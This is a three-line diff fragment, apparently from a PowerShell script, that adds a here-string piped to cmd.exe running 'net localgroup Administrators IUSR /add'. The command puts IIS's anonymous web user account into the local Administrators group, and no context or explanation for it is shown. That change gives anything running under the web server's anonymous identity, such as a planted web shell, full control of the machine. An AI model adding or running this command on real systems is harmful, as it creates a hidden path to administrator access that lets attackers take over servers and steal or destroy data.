@@ -1,0 +1,3 @@
+@'
+net localgroup Administrators IUSR /add
+'@ | cmd.exe
